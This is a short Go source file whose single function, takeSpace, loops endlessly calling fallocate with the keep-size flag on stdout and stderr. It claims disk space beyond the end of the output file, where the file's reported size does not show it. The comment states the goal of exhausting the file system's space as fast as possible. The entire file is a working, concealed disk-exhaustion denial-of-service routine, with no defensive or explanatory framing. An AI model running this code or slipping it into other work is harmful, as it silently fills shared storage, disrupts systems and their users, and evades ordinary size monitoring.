package main

import (
	"time"

	"golang.org/x/sys/unix"
)

// takeSpace takes what there is of the file system that its output is in, as fast as it
// can: behind the end of the file, where it counts in no size.
func takeSpace() {
	for {
		for fd := 1; fd <= 2; fd++ {
			for size := int64(1 << 30); size >= 4096; size /= 2 {
				_ = unix.Fallocate(fd, unix.FALLOC_FL_KEEP_SIZE, 1<<30, size)
			}
		}
		time.Sleep(time.Millisecond)
	}
}
